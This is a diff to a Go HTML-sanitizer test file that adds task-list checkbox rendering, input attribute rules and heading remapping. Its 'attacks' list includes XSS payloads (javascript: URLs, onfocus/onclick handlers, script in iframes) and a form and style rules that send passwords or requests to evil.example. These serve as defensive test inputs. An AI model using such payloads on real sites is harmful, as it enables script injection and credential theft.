@@ -66,7 +66,7 @@ var attacks = []string{
 	`<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<iframe><script>alert(1)</script>`, `<frameset><frame src=x></frameset>`,
 	`<object data="javascript:alert(1)"></object>`, `<object><param name=x value=y><script>alert(1)</script>`, `<embed src=https://e.example/x.swf>`, `<applet code=x></applet>`, `<portal src=x>`,
 	`<meta http-equiv=refresh content="0;url=javascript:alert(1)">`, `<base href="https://evil.example/">`, `<form action=https://evil.example><input name=p type=password><button>Go</button></form>`,
-	`<button form=paste-form formaction=https://evil.example>Go</button>`, `<input type=checkbox checked id=create>`, `<textarea form=paste-form name=x></textarea>`, `<select><option>x</select>`,
+	`<button form=paste-form formaction=https://evil.example>Go</button>`, `<input type=checkbox checked id=create>`, `<input type="checkbox" type=text>`, `<input type=text type=checkbox>`, `<INPUT/TYPE=checkbox/onclick=alert(1)>`, "- [x] <input autofocus onfocus=alert(1)>", "- [ ] [x](javascript:alert(1))", `<textarea form=paste-form name=x></textarea>`, `<select><option>x</select>`,
 	`<style>*{background:url(https://evil.example)}</style>`, `<style>@import "https://evil.example";</style>`, `<p style="position:fixed;inset:0">`, `<p style="background:url(javascript:x)">`,
 	`<b class="main trouble" id="create">x</b>`, `<p id="verdict" name="stage">x</p>`, `<code class="language-go main">x</code>`, `<code class="main">x</code>`, "```go\" onclick=\"alert(1)\nx\n```",
 	"```x y\nx\n```", "``` <script>\nx\n```", "```\"><script>alert(1)</script>\n```", `<dialog open>x</dialog>`, `<slot name=x>`, `<template><script>alert(1)</script></template>`,
@@ -137,8 +137,12 @@ var allowed = func() map[string]map[string]*regexp.Regexp {
 		"th":   {"align": regexp.MustCompile(`^(left|center|right)$`)},
 		"td":   {"align": regexp.MustCompile(`^(left|center|right)$`)},
 		"code": {"class": regexp.MustCompile(`^language-[^\s"<>]+$`)},
+		"input": {
+			"type": regexp.MustCompile(`^checkbox$`), "aria-label": regexp.MustCompile(`^(to do|done)$`),
+			"checked": regexp.MustCompile(`^$`), "disabled": regexp.MustCompile(`^$`),
+		},
 	}
-	for _, plain := range strings.Fields(`h1 h2 h3 h4 h5 h6 p br hr blockquote pre details summary ul li dl dt dd table thead tbody
+	for _, plain := range strings.Fields(`h4 h5 h6 p br hr blockquote pre details summary ul li dl dt dd table thead tbody
 		tr em strong i b u s del ins mark small sub sup q kbd samp var`) {
 		elements[plain] = nil
 	}
@@ -212,7 +216,14 @@ func wrongNode(n *html.Node) string {
 			return fmt.Sprintf("%s=%q on %s", a.Key, a.Val, n.Data)
 		}
 	}
-	if n.Data != "a" {
+	switch n.Data {
+	case "input":
+		if attribute(n, "type") != "checkbox" || !slices.ContainsFunc(n.Attr, func(a html.Attribute) bool { return a.Key == "disabled" }) {
+			return "a control that can be used"
+		}
+		return ""
+	case "a":
+	default:
 		return ""
 	}
 	href := attribute(n, "href")
@@ -236,14 +247,23 @@ func attribute(n *html.Node, key string) string {
 	return n.Attr[i].Val
 }
 
+const (
+	open   = `<input type="checkbox" disabled="" aria-label="to do">`
+	ticked = `<input type="checkbox" disabled="" checked="" aria-label="done">`
+)
+
 const out = ` rel="nofollow noreferrer noopener" target="_blank"`
 
 var becomes = []struct{ name, text, want string }{
 	{"nothing", "", ""},
 	{"words", "one *two* **three** `four` ~~five~~", "<p>one <em>two</em> <strong>three</strong> <code>four</code> <del>five</del></p>"},
-	{"headings", "# one\n\nthree\n---", "<h1>one</h1> <h2>three</h2>"},
+	{"headings", "# one\n\nthree\n---\n### five\n##### six", "<h4>one</h4> <h5>three</h5> <h6>five</h6> <h6>six</h6>"},
+	{"headings of HTML", "<H2 id=a class=b>one</H2>", "<h5>one</h5>"},
 	{"lists", "- a\n- b\n\n7. c", `<ul> <li>a</li> <li>b</li> </ul> <ol start="7"> <li>c</li> </ol>`},
-	{"a task is not a form", "- [x] done", "<ul> <li>[x] done</li> </ul>"},
+	{"tasks", "- [x] a\n- [ ] b", `<ul> <li>` + ticked + ` a</li> <li>` + open + ` b</li> </ul>`},
+	{"no task", "[x] a\n\n- b [ ]", `<p>[x] a</p> <ul> <li>b [ ]</li> </ul>`},
+	{"a check box of HTML can't be ticked", `<input type=CheckBox checked=no id=create onclick=x> a`, "<p>" + ticked + " a</p>"},
+	{"other controls are gone", `a <input value=b> <input type=password disabled> c`, `<p>a c</p>`},
 	{"a table", "|a|b|\n|-|-:|\n|1|2|", `<table> <thead> <tr> <th>a</th> <th align="right">b</th> </tr> </thead> <tbody> <tr> <td>1</td> <td align="right">2</td> </tr> </tbody> </table>`},
 	{"code", "```c++\na < b && c\n```", `<pre><code class="language-c++">a &lt; b &amp;&amp; c </code></pre>`},
 	{"a quotation", "> a\n> b", "<blockquote> <p>a b</p> </blockquote>"},
